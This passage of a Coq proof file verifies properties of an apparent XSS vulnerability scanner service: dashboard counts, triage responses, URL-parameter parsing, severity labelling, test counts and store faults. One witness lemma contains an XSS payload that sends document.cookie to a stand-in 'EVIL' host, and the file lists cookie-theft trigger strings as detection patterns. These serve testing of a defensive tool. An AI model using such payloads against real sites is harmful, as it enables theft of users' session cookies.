  split; [done|]. split; [lia|]. split; [lia|]. split; [lia|]. split; [lia|].
  split; [done|]. split; [rewrite length_take; lia|]. split.
  { apply Forall_take. rewrite Hperm. apply Forall_forall. intros d Hd.
    by apply list_elem_of_filter in Hd as [? _]. }
  split.
  { apply (StronglySorted_app_1_l _ _
             (drop 5 (merge_sort later_first
                        (filter (λ d, status d = "completed") (db_scan_results r8))))).
    rewrite take_drop. apply (StronglySorted_merge_sort later_first). }
  split; [intros Hsame; subst; same_store_chain Hsame|].
  intros Hres.
  assert (db_scan_results r2 = db_scan_results w) as R2.
  { subst. repeat (rewrite Hres || simpl). reflexivity. }
  assert (db_scan_results r8 = db_scan_results w) as R8.
  { subst. repeat (rewrite Hres || simpl). reflexivity. }
  rewrite R2. rewrite R8 in Hperm |- *. split; [done|]. split.
  - by rewrite length_take, (Permutation_length Hperm), Nat2Z.id.
  - apply Forall_take. rewrite Hperm. apply Forall_forall. intros d Hd.
    by apply list_elem_of_filter in Hd as [_ ?].
Qed.

Lemma dashboard_stats_interleaved_witness :
  match get_dashboard_stats demo_env rescan_before_critical demo_world with
  | (Served s, _) =>
      (ds_total_vulnerabilities s ≤ sd_critical s + sd_high s + sd_medium s)%Z
      ∧ sd_low s = 0%Z
  | (Refused _, _) => False
  end.
Proof.
  assert (interference initial_world demo_world) as H0
    by apply (reachable_interference demo_env), demo_world_reachable.
  assert (∀ n w0, interference w0 (rescan_before_critical n w0)) as H1.
  { intros n w0. unfold rescan_before_critical.
    destruct (Nat.eqb n 6); [apply scan_lifecycle_interference | apply interference_refl]. }
  pose proof (dashboard_stats_interleaved demo_env rescan_before_critical demo_world H0 H1)
    as H.
  destruct (get_dashboard_stats demo_env rescan_before_critical demo_world)
    as [[s|e] w'] eqn:Hrun.
  - destruct H as (_ & _ & _ & Hsum & _ & Hlow & _). by split.
  - vm_compute in Hrun. discriminate.
Defined.

(** With a scan stored between the count of all findings and the counts by
    severity, the dashboard serves six findings and twelve by severity. *)
Example dashboard_counts_can_disagree :
  match get_dashboard_stats demo_env rescan_before_critical demo_world with
  | (Served s, _) =>
      (total_scans s, ds_total_vulnerabilities s,
       (sd_critical s + sd_high s + sd_medium s)%Z)
  | (Refused _, _) => (0, 0, 0)%Z
  end = (1, 6, 12)%Z.
Proof. vm_compute. reflexivity. Qed.

(** Left alone, it serves the counts of the store. *)
Example dashboard_counts_alone :
  match get_dashboard_stats demo_env alone demo_world with
  | (Served s, w') =>
      (total_scans s, completed_scans s, ds_total_vulnerabilities s,
       (sd_critical s + sd_high s + sd_medium s)%Z, Z.of_nat (length (recent_scans s)))
  | (Refused _, _) => (0, 0, 0, 0, 0)%Z
  end = (1, 1, 6, 6, 1)%Z.
Proof. vm_compute. reflexivity. Qed.

(** ** Triage *)




Example triage_of_unknown_ids :
  (ai_triage_vulnerabilities demo_env
     {| vulnerability_ids := ["invalid-id"]; context := None |} demo_world).1
  = Refused (HTTPException 500 "AI triage analysis failed").
Proof. vm_compute. reflexivity. Qed.

Example triage_of_known_ids :
  match ai_triage_vulnerabilities demo_env
          {| vulnerability_ids := ["id-9"; "invalid-id"; "id-9"]; context := Some "" |}
          demo_world with
  | (Served response, _) => Some (triage_analysis response, vulnerability_count response)
  | _ => None
  end = Some ("analysis", 2%Z).
Proof. vm_compute. reflexivity. Qed.

(** ** Characters of payloads and of parameter names *)

Lemma chars_app (a b : string) : chars (a +:+ b) = chars a ++ chars b.
Proof.
  induction a as [|x a IH]; [done|].
  rewrite StrFacts.app_cons. simpl. by rewrite IH.
Qed.

Lemma contains_chars (s t : string) (c : ascii) :
  Str.contains s t → c ∈ chars t → c ∈ chars s.
Proof.
  intros (pre & post & ->) Hc. rewrite !chars_app. set_solver.
Qed.

Lemma char_in_chars (c : ascii) (s : string) :
  Str.char_in c s = true ↔ c ∈ chars s.
Proof.
  unfold Str.char_in. rewrite StrFacts.str_in_spec. split.
  - intros H. apply (contains_chars _ _ c H). simpl. set_solver.
  - induction s as [|x s IH]; simpl; [by intros ?%elem_of_nil|].
    intros [->|Hc]%elem_of_cons.
    + by exists EmptyString, s.
    + destruct (IH Hc) as (pre & post & ->). by exists (String x pre), post.
Qed.

Lemma split_pieces (c : ascii) (s : string) :
  Forall (λ piece, (c ∉ chars piece) ∧ (∀ x, x ∈ chars piece → x ∈ chars s))
    (Str.split c s).
Proof.
  induction s as [|a s IH]; simpl.
  - constructor; [|constructor]. split; [apply not_elem_of_nil | done].
  - destruct (Ascii.eqb_spec a c) as [->|Hne].
    + constructor.
      * split; [apply not_elem_of_nil|]. intros x Hx. by apply elem_of_nil in Hx.
      * eapply Forall_impl; [exact IH|]. intros p [H1 H2]. split; [done|].
        intros x Hx. simpl. apply elem_of_cons. right. by apply H2.
    + pose proof (StrFacts.split_nonempty c s) as Hn.
      destruct (Str.split c s) as [|hd tl]; [done|].
      inversion IH as [|? ? [H1 H2] Htl]; subst. constructor.
      * simpl. split.
        -- intros Hc. apply elem_of_cons in Hc as [Hc|Hc]; [congruence | done].
        -- intros x Hx. apply elem_of_cons in Hx as [Hx|Hx]; apply elem_of_cons;
             [by left | right; by apply H2].
      * eapply Forall_impl; [exact Htl|]. intros p [H3 H4]. split; [done|].
        intros x Hx. simpl. apply elem_of_cons. right. by apply H4.
Qed.

(** X14: the URL parameters a scan tests are named by the text before the
    first "=" of each "&"-separated piece of the part of the target URL
    between its first and its second "?"; so a parameter name never contains
    "=", "&" or "?", every character of it occurs in the URL, and the tests
    are addressed to the whole target URL. *)
Theorem url_parameter_names (url : string) (s : Surface) :
  s ∈ url_surfaces url →
  ∃ name,
    s = UrlParam url name
    ∧ Str.char_in "=" name = false
    ∧ Str.char_in "&" name = false
    ∧ Str.char_in "?" name = false
    ∧ ∀ c, c ∈ chars name → c ∈ chars url.
Proof.
  unfold url_surfaces. rewrite list_elem_of_In, in_flat_map.
  intros (param & Hparam & Hs). apply list_elem_of_In in Hparam.
  destruct (Str.char_in "=" param); [|by apply list_elem_of_In, elem_of_nil in Hs].
  apply list_elem_of_In, list_elem_of_singleton in Hs as ->.
  eexists. split; [reflexivity|].
  assert (∀ x, x ∈ chars param → "?"%char ≠ x ∧ x ∈ chars url) as Hquery.
  { pose proof (split_pieces "?" url) as Hq.
    destruct (Str.split "?" url !! 1) as [query|] eqn:Hq1; simpl in *.
    - apply list_elem_of_lookup_2 in Hq1. rewrite Forall_forall in Hq.
      destruct (Hq query Hq1) as [Hno Hsub].
      pose proof (split_pieces "&" query) as Ha. rewrite Forall_forall in Ha.
      destruct (Ha param Hparam) as [_ Hsub']. intros x Hx.
      split; [intros <-; apply Hno; auto | auto].
    - apply list_elem_of_singleton in Hparam as ->. by intros x ?%elem_of_nil. }
  assert ("&"%char ∉ chars param) as Hamp.
  { pose proof (split_pieces "&" (default "" (Str.split "?" url !! 1))) as Ha.
    rewrite Forall_forall in Ha. by destruct (Ha param Hparam). }
  pose proof (split_pieces "=" param) as He.
  pose proof (StrFacts.split_nonempty "=" param) as Hn.
  destruct (Str.split "=" param) as [|name rest]; [done|]. simpl.
  inversion He as [|? ? [Hno Hsub] _]; subst.
  repeat split.
  - destruct (Str.char_in "=" name) eqn:E; [|done]. by apply char_in_chars in E.
  - destruct (Str.char_in "&" name) eqn:E; [|done].
    apply char_in_chars in E. destruct Hamp. auto.
  - destruct (Str.char_in "?" name) eqn:E; [|done].
    apply char_in_chars in E. by destruct (Hquery _ (Hsub _ E)).
  - intros c Hc. by destruct (Hquery _ (Hsub _ Hc)).
Qed.

Lemma url_parameter_names_witness :
  UrlParam "https://x.test/p?a=1&b=2=3&c?d=4" "b"
  ∈ url_surfaces "https://x.test/p?a=1&b=2=3&c?d=4"
  ∧ url_surfaces "https://x.test/p?a=1&b=2=3&c?d=4"
    = [ UrlParam "https://x.test/p?a=1&b=2=3&c?d=4" "a";
        UrlParam "https://x.test/p?a=1&b=2=3&c?d=4" "b" ]
  ∧ ∃ name,
      UrlParam "https://x.test/p?a=1&b=2=3&c?d=4" "b"
      = UrlParam "https://x.test/p?a=1&b=2=3&c?d=4" name
      ∧ Str.char_in "=" name = false.
Proof.
  assert (UrlParam "https://x.test/p?a=1&b=2=3&c?d=4" "b"
          ∈ url_surfaces "https://x.test/p?a=1&b=2=3&c?d=4") as Hin.
  { vm_compute. right. left. }
  split; [exact Hin|]. split; [reflexivity|].
  destruct (url_parameter_names _ _ Hin) as (name & Hs & He & _).
  exists name. by split.
Defined.

Lemma trigger_needs_lower_case (payload0 t : string) (c : ascii) :
  Forall (λ x, is_lower_letter x = false) (chars payload0) →
  c ∈ chars t → is_lower_letter c = true → Str.str_in t payload0 = false.
Proof.
  intros Hup Hc Hlow. destruct (Str.str_in t payload0) eqn:E; [|done].
  apply StrFacts.str_in_spec in E. pose proof (contains_chars _ _ c E Hc) as Hin.
  rewrite Forall_forall in Hup. specialize (Hup c Hin). congruence.
Qed.

(** X15: the markers are looked for regardless of case but the severity
    triggers are not: a payload without a lower-case letter, when it is
    flagged at all, is always labelled high -- never critical or medium,
    whatever it contains. *)
Theorem payload_without_lower_case_is_high
    (fresh_id : string) (now : Z) (scan_id endpoint parameter payload0 vuln_type : string)
    (v : Vulnerability) :
  Forall (λ c, is_lower_letter c = false) (chars payload0) →
  test_payload fresh_id now scan_id endpoint parameter payload0 vuln_type = Some v →
  severity v = "high".
Proof.
  intros Hup Hv. apply test_payload_Some in Hv as (_ & -> & _).
  unfold severity_of.
  rewrite (trigger_needs_lower_case payload0 "document.cookie" "d") by (done || set_solver).
  rewrite (trigger_needs_lower_case payload0 "fetch(" "f") by (done || set_solver).
  rewrite (trigger_needs_lower_case payload0 "alert(" "a") by (done || set_solver).
  reflexivity.
Qed.

Lemma payload_without_lower_case_is_high_witness :
  severity <$> test_payload "id" 0 "s" "e" "p"
                 "<SCRIPT>FETCH('//EVIL/'+DOCUMENT.COOKIE)</SCRIPT>" "form_input"
  = Some "high".
Proof.
  assert (Forall (λ c, is_lower_letter c = false)
            (chars "<SCRIPT>FETCH('//EVIL/'+DOCUMENT.COOKIE)</SCRIPT>")) as Hup.
  { simpl. repeat constructor. }
  destruct (test_payload "id" 0 "s" "e" "p"
              "<SCRIPT>FETCH('//EVIL/'+DOCUMENT.COOKIE)</SCRIPT>" "form_input")
    as [v|] eqn:Hv; [|vm_compute in Hv; discriminate].
  simpl. f_equal.
  exact (payload_without_lower_case_is_high _ _ _ _ _ _ _ _ Hup Hv).
Defined.

(** ** The volume of a scan *)

(** X16: the number of tests of a scan is the number of eligible form fields
    times the number of selected payloads, plus the number of URL parameters
    times the smaller of five and the number of selected payloads. *)
Theorem number_of_tests (env : Env) (r : ScanRequest) (w : World) :
  let n := length (select_payloads r) in
  let fields := length (filter (λ s, is_form_field s = true) (surfaces env r)) in
  let params := length (filter (λ s, is_form_field s = false) (surfaces env r)) in
  length (events (perform_xss_scan env r w).2)
  = length (events w) + (fields * n + params * min 5 n).
Proof.
  intros n fields params. rewrite perform_xss_scan_events, length_app. f_equal.
  unfold fields, params, n. clear.
  induction (surfaces env r) as [|[ep name|ep name] l IH]; [done| |].
  - cbn [flat_map tests_of]. rewrite length_app, length_map, IH.
    rewrite !filter_cons. simpl. lia.
  - cbn [flat_map tests_of]. rewrite length_app, length_map, length_take, IH.
    rewrite !filter_cons. simpl. lia.
Qed.

Example number_of_tests_comprehensive :
  length (events (perform_xss_scan demo_env
                    (sample_request "https://x.test/p?a=1&b=2" "comprehensive")
                    initial_world).2)
  = 1 * 15 + 2 * 5.
Proof. vm_compute. reflexivity. Qed.

(** X17: the two flags of a request are respected: every test of a scan is
    either a form test, and then [include_forms] is set, or a URL-parameter
    test addressed to the target URL itself, and then [include_urls] is set
    and the URL contains "?". *)
Theorem flags_are_respected (env : Env) (r : ScanRequest) (w : World) :
  ∃ new,
    events (perform_xss_scan env r w).2 = events w ++ new
    ∧ Forall (λ e,
        match e with
        | Tested ep _ _ kind =>
            (kind = "form_input" ∧ include_forms r = true)
            ∨ (kind = "url_parameter" ∧ include_urls r = true ∧ ep = target_url r
               ∧ Str.char_in "?" (target_url r) = true)
        | _ => False
        end) new.
Proof.
  eexists. split; [apply perform_xss_scan_events|].
  apply Forall_forall. intros e He.
  apply list_elem_of_In, in_flat_map in He as (s & Hs & He).
  unfold surfaces in Hs.
  destruct (urlparse_base env (target_url r)) as [base_url|];
    [|by destruct (http_get env (target_url r)) as [|? [?|]]].
  destruct (http_get env (target_url r)) as [|code [content|]]; try done.
  destruct (find_forms env content) as [soup|]; [|done].
  apply in_app_or in Hs as [Hs|Hs].
  - destruct (include_forms r); [|done].
    unfold form_surfaces in Hs. apply in_flat_map in Hs as (form & _ & Hs).
    apply in_flat_map in Hs as (fld & _ & Hs).
    destruct (eligible fld); [|done]. destruct Hs as [<-|[]].
    simpl in He. apply in_map_iff in He as (p & <- & _). by left.
  - destruct (include_urls r); [|done]. simpl in Hs.
    destruct (Str.char_in "?" (target_url r)); [|done].
    unfold url_surfaces in Hs. apply in_flat_map in Hs as (param & _ & Hs).
    destruct (Str.char_in "=" param); [|done]. destruct Hs as [<-|[]].
    simpl in He. apply in_map_iff in He as (p & <- & _). by right.
Qed.

(** ** Scans without findings *)








(** ** A submission the store refuses *)

(** X19: [create_scan] stores the request before the pending record, so when
    it raises -- which only a store fault makes it do -- no result record and
    no status has been written, but the request itself may already be
    stored; with no record for its id, the result of such a scan is then a
    404 although the request can be listed. *)
Theorem refused_submission (env : Env) (r : ScanRequest) (w w1 : World) (e : Exn) :
  find_one (rq_id r) (db_scan_results w) = None →
  create_scan env r w = (Raise e, w1) →
  e = StoreError
  ∧ ¬ reliable env
  ∧ db_scan_results w1 = db_scan_results w
  ∧ db_vulnerabilities w1 = db_vulnerabilities w
  ∧ events w1 = events w
  ∧ (db_scans w1 = db_scans w
     ∨ db_scans w1 = db_scans w ++ [r] ∧ store_ok env (ticks w) = true)
  ∧ (store_ok env (ticks w1) = true →
     get_scan_result env (rq_id r) w1
     = (Refused (HTTPException 404 "Scan result not found"), tick w1)).
Proof.
  intros Hfresh Hrun.
  unfold create_scan, bind, insert_scan, fresh_uuid, insert_scan_result, ret in Hrun.
  destruct (store_ok env (ticks w)) eqn:H0; simpl in Hrun.
  - destruct (store_ok env (S (S (ticks w)))) eqn:H2; simpl in Hrun; [done|].
    injection Hrun as <- <-. simpl.
    repeat split; try done; [by eapply not_reliable | by right |].
    intros H3. unfold get_scan_result. simpl in *. by rewrite H3, Hfresh.
  - injection Hrun as <- <-. simpl.
    repeat split; try done; [by eapply not_reliable | by left |].
    intros H3. unfold get_scan_result. simpl in *. by rewrite H3, Hfresh.
Qed.

Lemma refused_submission_witness :
  let env := sample_env (Response 200 (Some "")) (λ n, negb (n =? 2)) (λ _ _, None) in
  let w1 := (create_scan env demo_request initial_world).2 in
  rq_id <$> db_scans w1 = ["scan-1"]
  ∧ db_scan_results w1 = []
  ∧ get_scan_result env "scan-1" w1
    = (Refused (HTTPException 404 "Scan result not found"), tick w1).
Proof.
  intros env w1. split; [reflexivity|]. split; [reflexivity|].
  assert (create_scan env demo_request initial_world = (Raise StoreError, w1)) as Hrun
    by (vm_compute; reflexivity).
  destruct (refused_submission env demo_request initial_world w1 StoreError eq_refl Hrun)
    as (_ & _ & _ & _ & _ & _ & H).
  exact (H eq_refl).
Defined.
